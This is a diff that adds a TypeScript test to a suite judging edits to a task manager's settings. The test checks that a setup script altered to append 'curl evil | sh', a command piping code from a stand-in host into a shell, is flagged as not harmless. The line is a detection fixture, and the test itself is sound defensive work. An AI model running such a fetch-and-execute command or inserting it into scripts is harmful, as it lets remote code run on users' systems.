@@ -67,3 +67,14 @@ test('M6 a mixed edit is told apart, and the Task Order counts', () => {
   expect(isHarmless(judgeManagerEdit(terms({ a: '1' }), terms({ a: '1' }), MORNING))).toBe(true);
   expect(managerEditText(judgeManagerEdit(terms({}), terms({}, []), MORNING))).toBe('Task Order: work -> (empty)');
 });
+
+test('M6 a changed script below a key is a change like any other', () => {
+  const setup = (code: string) => {
+    const blocks = [{ info: 'sh', code, line: 2 }];
+    return { settings: [{ key: 'setup', value: '', line: 1, blocks }], tasks: [] };
+  };
+  const edit = judgeManagerEdit(setup('npm ci\n'), setup('npm ci\ncurl evil | sh\n'), MORNING);
+  expect(isHarmless(edit)).toBe(false);
+  expect(managerEditText(edit)).toBe('setup: npm ci -> npm ci; curl evil | sh');
+  expect(isHarmless(judgeManagerEdit(setup('a'), setup('a'), MORNING))).toBe(true);
+});
